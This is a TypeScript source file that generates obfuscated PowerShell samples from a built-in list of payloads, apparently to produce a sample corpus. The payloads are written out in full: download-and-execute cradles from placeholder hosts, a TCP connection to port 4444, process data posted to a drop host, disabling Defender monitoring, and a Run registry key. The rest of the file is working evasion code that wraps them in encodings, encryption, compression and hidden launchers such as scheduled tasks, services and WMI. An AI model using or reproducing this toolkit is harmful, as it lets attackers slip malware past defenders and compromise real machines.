/** Hides commands in the published styles of obfuscation; all of it made here, from our own payloads, by a seeded generator. */
import { createCipheriv, pbkdf2Sync } from 'node:crypto'
import { deflateRawSync, gzipSync } from 'node:zlib'

export interface Payload { code: string; command: string; url: string; type: string }
export interface Random { int: (below: number) => number; pick: <T>(list: readonly T[]) => T; shuffle: <T>(list: readonly T[]) => T[] }
export type Style = (payload: Payload, random: Random) => string

/** A small seeded generator (mulberry32), so that samples are the same on each run. */
export function randomOf(seed: number): Random {
  let state = seed
  const next = (): number => {
    state = (state + 0x6d2b79f5) | 0
    let t = Math.imul(state ^ (state >>> 15), 1 | state)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
  const int = (below: number): number => Math.floor(next() * below)
  return {
    int,
    pick: list => list[int(list.length)]!,
    shuffle: list => list.map(item => [next(), item] as const).sort((a, b) => a[0] - b[0]).map(([, item]) => item),
  }
}

/** Payloads of our own: a download, a process list sent away, a rule of the firewall, a task, a registry run key. */
export const PAYLOADS: Payload[] = [
  { code: "IEX (New-Object Net.WebClient).DownloadString('http://files.north.example/a1.ps1')", command: 'Invoke-Expression', url: 'http://files.north.example/a1.ps1', type: 'System.Net.WebClient' },
  { code: "Invoke-WebRequest -Uri 'https://get.south.example:8443/tool.exe' -OutFile \"$env:TEMP\\t.exe\"; Start-Process \"$env:TEMP\\t.exe\"; [Net.ServicePointManager]::Expect100Continue = $false", command: 'Invoke-WebRequest', url: 'https://get.south.example:8443/tool.exe', type: 'System.Net.ServicePointManager' },
  { code: "$c = New-Object System.Net.Sockets.TcpClient('10.20.30.40', 4444); Get-Process | ForEach-Object { $_.Name }; Invoke-RestMethod 'http://drop.west.example/in' -Method Post", command: 'Get-Process', url: 'http://drop.west.example/in', type: 'System.Net.Sockets.TcpClient' },
  { code: "Set-MpPreference -DisableRealtimeMonitoring $true; (New-Object System.Net.WebClient).DownloadFile('ftp://east.example/p.bin', 'C:\\Users\\Public\\p.bin')", command: 'Set-MpPreference', url: 'ftp://east.example/p.bin', type: 'System.Net.WebClient' },
  { code: "[System.Reflection.Assembly]::Load((Invoke-WebRequest 'http://lib.mid.example/x.dll').Content); Set-ItemProperty -Path 'HKCU:\\Software\\Run' -Name a -Value b", command: 'Set-ItemProperty', url: 'http://lib.mid.example/x.dll', type: 'System.Reflection.Assembly' },
]

const quote = (text: string): string => `'${text.replaceAll("'", "''")}'`

function pieces(text: string, random: Random, longest = 6): string[] {
  const made: string[] = []
  for (let at = 0; at < text.length;) {
    const length = 1 + random.int(longest)
    made.push(text.slice(at, at + length))
    at += length
  }
  return made
}

const mixCase = (text: string, random: Random): string => Array.from(text, c => (random.int(2) ? c.toUpperCase() : c.toLowerCase())).join('')
const concat = (text: string, random: Random): string => `(${pieces(text, random).map(quote).join(random.pick(['+', ' + ']))})`

function reorder(text: string, random: Random): string {
  const clean = pieces(text, random)
  if (text.includes('{') || text.includes('}')) return concat(text, random)
  const order = random.shuffle(clean.map((_, i) => i))
  const format = clean.map((_, i) => `{${order.indexOf(i)}}`).join('')
  return `("${format}"${random.pick(['-f', ' -F '])}${order.map(i => quote(clean[i]!)).join(',')})`
}

/** Spellings of Invoke-Expression. */
function invoke(random: Random): string {
  return random.pick([
    'IEX', 'iEx', '&("i"+"ex")', '.("{1}{0}"-f"x","ie")', "&( $PSHome[4]+$PSHome[30]+'x')", "&( $ShellId[1]+$ShellId[13]+'x')", "&( $env:ComSpec[4,15,25]-Join'')", "&((Get-Variable '*mdr*').Name[3,11,2]-Join'')",
    "&( $VerbosePreference.ToString()[1,3]+'x'-Join'')", '& (gal ie?)', '&(Get-Command I*e-E*n)', '& ((gcm *ke-ex*).Name)', 'Invoke-Expression', 'I`N`V`oKe-ExpRe`s`SION', "& (gcm ('ie{0}' -f 'x'))",
  ])
}

/** Runs what an expression gives, before or after it. */
function run(given: string, random: Random): string {
  const expression = given.startsWith('-') ? `(${given})` : given
  return random.pick([
    () => `${invoke(random)} ${expression}`, () => `${expression} | ${invoke(random)}`, () => `${expression}|%{ ${invoke(random)} $_ }`, () => `$x9=${expression}; ${invoke(random)} $x9`,
    () => `& ([scriptblock]::Create(${expression}))`, () => `$ExecutionContext.InvokeCommand.InvokeScript(${expression})`, () => `([ScriptBlock]::Create(${expression})).Invoke()`,
    () => `.([ScriptBlock]::("Cr"+"eate").Invoke(${expression}))`, () => `Invoke-Command -ScriptBlock ([scriptblock]::Create(${expression}))`,
    () => `$ExecutionContext.InvokeCommand.NewScriptBlock(${expression}).Invoke()`,
  ])()
}

const codes = (text: string): number[] => Array.from(text, c => c.charCodeAt(0))
const DELIMITERS = ['_', ',', '!', 'z', '&', '~', '}']

function encodedList(payload: Payload, random: Random, radix: number): string {
  const convert = random.pick(['[Convert]::ToInt16', '[cOnvErt]::toint32', '[System.Convert]::ToInt16'])
  const list = codes(payload.code).map(code => code.toString(radix))
  const to = radix === 10 ? '[char][int]$_' : `[char](${convert}(([string]$_),${radix}))`
  const split = random.pick([true, false])
  if (!split) return run(`(${random.pick([`(${list.map(item => quote(item)).join(',')}|%{${to}})-join''`, `-join(${list.map(item => quote(item)).join(',')}|ForEach-Object{${to}})`])})`, random)
  const used = random.shuffle(DELIMITERS.filter(d => radix < 16 || !'abcdef'.includes(d))).slice(0, 3)
  const text = list.map((item, i) => (i ? random.pick(used) + item : item)).join('')
  const splitting = random.pick([used.map(d => ` -split${quote(d === '}' ? '\\}' : d)}`).join(''), `.Split(${quote(used.join(''))})`, ` -split '[${used.join('')}]'`])
  return run(random.pick([`-join((${quote(text)}${splitting})|%{${to}})`, `([string]::Join('',((${quote(text)}${splitting})|foreach{${to}})))`, `((${quote(text)}${splitting}|%{${to}})-join'')`]), random)
}

const utf16 = (text: string): Buffer => Buffer.from(text, 'utf16le')
const base64 = (bytes: Uint8Array): string => Buffer.from(bytes).toString('base64')
const bytesOf = (bytes: Uint8Array): string => Array.from(bytes).join(',')

function keyText(random: Random, length: number): number[] {
  return Array.from({ length }, () => random.int(256))
}

export const STYLES: Record<string, Style> = {
  'token: command and member names in pieces': (payload, random) => tokens(payload.code, random, concat),
  'token: names through the format operator': (payload, random) => tokens(payload.code, random, reorder),
  'token: ticks and casing': (payload, random) => ticked(payload.code, random),
  'string: concatenation': (payload, random) => run(concat(payload.code, random), random),
  'string: reordered': (payload, random) => run(reorder(payload.code, random), random),
  'string: reversed': (payload, random) => {
    const back = Array.from(payload.code).reverse().join('')
    const n = payload.code.length
    return random.pick([
      () => run(`(${quote(back)}[-1..-${n}]-join'')`, random), () => `$r=${quote(back)}.ToCharArray();[Array]::Reverse($r);${run("($r-join'')", random)}`,
      () => `$r = ${quote(back)}; ${run(`-join($r[(${n}-1)..0])`, random)}`, () => run(`(([regex]::Matches(${quote(back)},'.','RightToLeft')|%{$_.value})-join'')`, random),
      () => `$s='';for($i=${n - 1};$i -ge 0;$i--){$s+=${quote(back)}[$i]};${run('$s', random)}`,
    ])()
  },
  'string: replaced marks': (payload, random) => {
    const marks = ['qZx', 'Wv9', '~~'].slice(0, 1 + random.int(3))
    let code = payload.code
    const originals = random.shuffle(["'", 'e', '.', 'o', 't']).slice(0, marks.length)
    originals.forEach((c, i) => { code = code.replaceAll(c, marks[i]!) })
    const back = [...originals].reverse().map((c, i) => {
      const mark = marks[marks.length - 1 - i]!
      const by = `[string][char]${c.charCodeAt(0)}`
      return random.pick([`.Replace(${quote(mark)},${by})`, `.replace((${Array.from(mark, m => `[char]${m.charCodeAt(0)}`).join('+')}),${by})`])
    }).join('')
    const operators = [...originals].reverse().map((c, i) => ` -creplace ${quote(marks[marks.length - 1 - i]!)},[char]${c.charCodeAt(0)}`).join('')
    return run(`(${random.pick([`${quote(code)}${back}`, `(${quote(code)}${operators})`])})`, random)
  },
  'encoding: decimal codes': (payload, random) => encodedList(payload, random, 10),
  'encoding: hexadecimal codes': (payload, random) => encodedList(payload, random, 16),
  'encoding: octal codes': (payload, random) => encodedList(payload, random, 8),
  'encoding: binary codes': (payload, random) => encodedList(payload, random, 2),
  'encoding: xor': (payload, random) => {
    const key = 1 + random.int(200)
    const list = codes(payload.code).map(code => code ^ key)
    return random.pick([
      () => run(`(-join((${list.join(',')})|%{[char]($_ -bxor ${key})}))`, random),
      () => `$k=${key};$o='';foreach($b in @(${list.join(',')})){$o+=[char]($b -bxor $k)};${run('$o', random)}`,
      () => `$d=[byte[]](${list.join(',')});for($i=0;$i -lt $d.Count;$i++){$d[$i]=$d[$i] -bxor 0x${key.toString(16)}};${run('([Text.Encoding]::ASCII.GetString($d))', random)}`,
      () => `function dec($t,$n){$r=New-Object Text.StringBuilder;foreach($c in ($t -split '-')){[void]$r.Append([char]([int]$c -bxor $n))};return $r.ToString()};${run(`(dec '${list.join('-')}' ${key})`, random)}`,
    ])()
  },
  'encoding: repeating key': (payload, random) => {
    const key = 'Key' + random.int(1000)
    const data = Buffer.from(payload.code).map((byte, i) => byte ^ key.charCodeAt(i % key.length))
    return `$k=[Text.Encoding]::UTF8.GetBytes('${key}');$b=[Convert]::FromBase64String('${base64(data)}');$i=0;$p=foreach($x in $b){$x -bxor $k[$i++ % $k.Length]};${run('([Text.Encoding]::UTF8.GetString([byte[]]$p))', random)}`
  },
  'encoding: base64': (payload, random) => random.pick([
    () => run(`([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${base64(utf16(payload.code))}')))`, random),
    () => run(`([System.Text.Encoding]::('UT'+'F8').GetString([System.Convert]::("FromBase6"+"4String").Invoke('${base64(Buffer.from(payload.code))}')))`, random),
    () => `$a='${base64(Buffer.from(base64(Buffer.from(payload.code))))}';1..2|%{$a=[Text.Encoding]::ASCII.GetString([Convert]::FromBase64String($a))};${run('$a', random)}`,
  ])(),
  'encoding: secure string': (payload, random) => {
    const key = keyText(random, 24)
    const iv = Buffer.from(keyText(random, 16))
    const cipher = createCipheriv('aes-192-cbc', Buffer.from(key), iv)
    const hex = Buffer.concat([cipher.update(utf16(payload.code)), cipher.final()]).toString('hex')
    const secret = `76492d1116743f0423413b16050a5345${base64(utf16(`2|${base64(iv)}|${hex}`))}`
    const secure = `(${quote(secret)}|ConvertTo-SecureString -Key ${random.pick([key.join(','), `(${key.join(',')})`])})`
    return run(random.pick([
      `([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR(${secure})))`,
      `([Runtime.InteropServices.Marshal]::("PtrToStringUni").Invoke([Runtime.InteropServices.Marshal]::SecureStringToGlobalAllocUnicode($(${secure}))))`,
      `((New-Object Management.Automation.PSCredential 'u',${secure}).GetNetworkCredential().Password)`,
    ]), random)
  },
  'encoding: special characters': payload => {
    // Digits from counting, letters from the texts of an empty hashtable, of `$?` and of a method.
    const digit = ['${=}', '${+}', '${@}', '${.}', '${[}', '${]}', '${(}', '${)}', '${&}', '${|}']
    const number = (value: number): string => Array.from(String(value), d => digit[Number(d)]!).join('')
    const table = (at: number): string => `"$(@{})"["${number(at)}"]`
    const text = codes(payload.code).map(code => '${"}' + number(code)).join('+')
    return '${;}=+$();${=}=${;};${+}=++${;};${@}=++${;};${.}=++${;};${[}=++${;};${]}=++${;};${(}=++${;};${)}=++${;};${&}=++${;};${|}=++${;};' +
      '${"}="["+' + `${table(7)}+${table(19)}+${table(20)}+` + '"$?"[${+}]+"]";' +
      '${;}="".(' + `${table(14)}+${table(16)}+${table(2)}+${table(4)}+` + '"$?"[${+}]+' + `${table(3)}` + ');' +
      '${;}=' + `${table(14)}+${table(4)}+` + '"${;}"["${@}${)}"];' + `"${text}|` + '${;}"|&${;}'
  },
  'encoding: white space': (payload, random) => {
    const text = codes(payload.code).map(code => Array.from(String(code), d => '\t'.repeat(Number(d) + 1)).join(' ')).join('  ')
    return `$w='${text}';$r='';foreach($l in ($w -split '  ')){$n='';foreach($t in $l.Split(' ')){$n+=($t.Length-1)};$r+=[char][int]$n};${run('$r', random)}`
  },
  'compression: deflate': (payload, random) => compressed(random, 'Deflate', deflateRawSync(Buffer.from(payload.code))),
  'compression: gzip': (payload, random) => compressed(random, 'GZip', gzipSync(Buffer.from(payload.code))),
  'encryption: AES': (payload, random) => {
    const [key, iv] = [Buffer.from(keyText(random, 32)), Buffer.from(keyText(random, 16))]
    const cipher = createCipheriv('aes-256-cbc', key, iv)
    const data = base64(Buffer.concat([cipher.update(payload.code, 'utf8'), cipher.final()]))
    const make = random.pick(["New-Object System.Security.Cryptography.AesManaged", '[System.Security.Cryptography.Aes]::Create()', 'New-Object "System.Security.Cryptography.RijndaelManaged"', "[Security.Cryptography.SymmetricAlgorithm]::Create('AES')"])
    return `$a=${make};$a.Mode=[System.Security.Cryptography.CipherMode]::CBC;$a.Padding=[System.Security.Cryptography.PaddingMode]::PKCS7;$a.Key=[Convert]::FromBase64String('${base64(key)}');` +
      `$a.IV=[byte[]](${bytesOf(iv)});$e=[Convert]::FromBase64String('${data}');$t=$a.CreateDecryptor();$p=$t.TransformFinalBlock($e,0,$e.Length);${run('([Text.Encoding]::UTF8.GetString($p))', random)}`
  },
  'encryption: derived key': (payload, random) => {
    const salt = Buffer.from('saltsalt1')
    const bytes = pbkdf2Sync('pass phrase', salt, 1000, 48, 'sha1')
    const cipher = createCipheriv('aes-256-cbc', bytes.subarray(0, 32), bytes.subarray(32))
    const data = base64(Buffer.concat([cipher.update(payload.code, 'utf8'), cipher.final()]))
    return `$d=New-Object Security.Cryptography.Rfc2898DeriveBytes('pass phrase',[Text.Encoding]::UTF8.GetBytes('saltsalt1'),1000);$a=[Security.Cryptography.Aes]::Create();$a.Key=$d.GetBytes(32);$a.IV=$d.GetBytes(16);` +
      `$m=New-Object IO.MemoryStream(,[Convert]::FromBase64String('${data}'));$c=New-Object Security.Cryptography.CryptoStream($m,$a.CreateDecryptor(),[Security.Cryptography.CryptoStreamMode]::Read);${run('((New-Object IO.StreamReader($c)).ReadToEnd())', random)}`
  },
  'encryption: DES': (payload, random) => {
    const key = Buffer.from(keyText(random, 8))
    const cipher = createCipheriv('des-ede3-cbc', Buffer.concat([key, key, key]), key)
    const data = base64(Buffer.concat([cipher.update(payload.code, 'utf8'), cipher.final()]))
    return `$x=New-Object Security.Cryptography.DESCryptoServiceProvider;$x.Key=${bytesOf(key)};$x.IV=[byte[]]@(${bytesOf(key)});$q=[Convert]::FromBase64String("${data}");${run('([Text.Encoding]::ASCII.GetString($x.CreateDecryptor().TransformFinalBlock($q,0,$q.Count)))', random)}`
  },
  'launcher: encoded command': (payload, random) => {
    const data = base64(utf16(payload.code))
    return random.pick([
      `powershell.exe -NoP -NonI -W Hidden -Enc ${data}`, `powershell -e ${data}`, `pwsh /eNcO ${data}`, `& powershell.exe -ExecutionPolicy Bypass -EncodedCommand '${data}'`, `$z='${data}';powershell -nop -ec $z`,
      `Start-Process powershell.exe -ArgumentList '-nop -w 1 -enc ${data}'`, `Start-Process -FilePath "$PSHOME\\powershell.exe" -Args @('-w','hidden','-e','${data}') -Verb RunAs`, `cmd /c "powershell -e ${data}"`,
      `schtasks /create /tn Up /sc minute /tr "powershell.exe -w hidden -enc ${data}"`, `$s=New-Object -ComObject WScript.Shell;$s.Run('powershell -enc ${data}',0)`,
      `[Diagnostics.Process]::Start('powershell.exe','-enc ${data}')`, `Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'powershell -enc ${data}'`,
      `$i=New-Object Diagnostics.ProcessStartInfo;$i.FileName='powershell';$i.Arguments='-nop -enc ${data}';[Diagnostics.Process]::Start($i)`, `New-Service -Name S -BinaryPathName "cmd.exe /c powershell -enc ${data}"`,
      `$act=New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-enc ${data}'`, `([wmiclass]'\\\\.\\root\\cimv2:Win32_Process').Create("powershell -enc ${data}")`,
    ])
  },
  'launcher: cmd': (payload, random) => {
    const code = payload.code.replaceAll('"', "'")
    const inner = code.replaceAll("'", "''")
    return random.pick([
      `cmd.exe /c '${`powershell -nop -c "${inner}"`}'`, `cmd /c 'set zq=${inner}&& powershell IEX $env:zq'`, `cmd /c 'echo ${inner.replaceAll('|', '^|').replaceAll('&', '^&')} | powershell -'`,
      `cmd.exe /c 'p^owers^hell -Com^mand "${inner}"'`, `Start-Process cmd -ArgumentList '/c powershell -nop -c "${inner}"'`,
    ])
  },
  'cradle: wildcards and variables': (payload, random) => {
    const [, host = '', path = ''] = /^(\w+:\/\/[^/]+)(.*)$/.exec(payload.url) ?? []
    return random.pick([
      () => `SV u9 ${quote(payload.url)};&(GAL I*X)((&(GCM N*w-O*)Net.WebClient).DownloadString((GV u9).Value))`,
      () => `$u=${quote(host)}+${quote(path)};$w=.('New-'+'Object') ('Net.Web'+'Client');$w.('Downl'+'oadString').Invoke($u)|.('ie'+'x')`,
      () => `Set-Item Variable:/b8 ${quote(payload.url)};.(Get-Command *w-Obj*)Net.WebClient|%{$_.DownloadString((Get-Item Variable:b8).Value)}|IEX`,
      () => `$w=(&(Get-Command New-Ob*) Net.WebClient);$m=($w.PsObject.Methods|Where-Object{$_.Name-clike'D*g'}).Name;$w.$m.Invoke(${quote(payload.url)})|&(GAL I*X)`,
      () => `[Net.WebClient]::New().DownloadString(${quote(payload.url)})|&("{1}{0}" -f 'x','ie')`,
      () => `$e=$ExecutionContext.InvokeCommand;.($e.GetCmdlets('Invoke-Exp*'))((&($e.GetCommand('New-Object','Cmdlet'))Net.WebClient).DownloadString(${quote(payload.url)}))`,
    ])()
  },
}

function compressed(random: Random, kind: string, data: Uint8Array): string {
  const text = quote(base64(data))
  return random.pick([
    () => run(`(New-Object IO.StreamReader((New-Object IO.Compression.${kind}Stream([IO.MemoryStream][Convert]::FromBase64String(${text}),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()`.replace(/^/, '(') + ')', random),
    () => `$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(${text}));${run(`((New-Object IO.StreamReader(New-Object IO.Compression.${kind}Stream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd())`, random)}`,
    () => `$in=[IO.MemoryStream]::new([Convert]::FromBase64String(${text}));$g=New-Object System.IO.Compression.${kind}Stream $in,([IO.Compression.CompressionMode]::Decompress);$o=New-Object IO.MemoryStream;$g.CopyTo($o);$g.Close();${run('([Text.Encoding]::UTF8.GetString($o.ToArray()))', random)}`,
    () => `$in=New-Object System.IO.MemoryStream(,[System.Convert]::FromBase64String(${text}));$g=New-Object System.IO.Compression.${kind}Stream($in,[IO.Compression.CompressionMode]::Decompress);$b=New-Object byte[] 1024;$o=New-Object System.IO.MemoryStream;` +
      `while(($n=$g.Read($b,0,1024)) -gt 0){$o.Write($b,0,$n)};$t=[Text.Encoding]::UTF8.GetString($o.ToArray());${run('$t', random)}`,
    () => `(nEw-oBJect io.CoMPREssiOn.${kind}stREaM([Io.MEmoryStReAm][CoNVErT]::FROmBAse64stRiNG(${text}),[iO.coMPREssIOn.CoMPRESsIonMODe]::DECOmPrESs)|%{nEw-oBJect IO.STReAmrEAder($_,[TeXT.eNcODInG]::asCIi)}|%{$_.READtoEND()})|${invoke(random)}`,
  ])()
}

/** Writes each command name, type argument, method name and longer string of simple code through `hide`. */
function tokens(code: string, random: Random, hide: (text: string, random: Random) => string): string {
  const part = /\b(IEX|[A-Z][a-z]+-[A-Z]\w+)\b|(?<=New-Object )((?:System\.)?Net\.[\w.]+)|\.(DownloadString|DownloadFile)\(|'([^']*)'/g
  return code.replace(part, (all, command?: string, type?: string, member?: string, text?: string) => {
    if (command !== undefined) return `${random.pick(['&', '.'])}${hide(command, random)}`
    if (type !== undefined) return hide(type, random)
    if (member !== undefined) return `.${hide(member, random)}.Invoke(`
    return (text ?? '').length > 4 ? hide(text ?? '', random) : all
  })
}

const SAFE = /[^abefnrtuv0]/i

function ticked(code: string, random: Random): string {
  const tick = (name: string): string => Array.from(mixCase(name, random), (c, i) => (i > 0 && i < name.length - 1 && SAFE.test(c) && /[a-z]/i.test(c) && random.int(2) ? `\`${c}` : c)).join('')
  return code.replace(/\b(IEX|[A-Z][a-z]+-[A-Z]\w+)\b/g, tick).replace(/\.(Download\w+)\(/g, (_, name: string) => `."${tick(name)}"(`).replace(/(?<=New-Object |\[)(?:System\.)?Net\.[\w.]+/gi, name => mixCase(name, random))
}
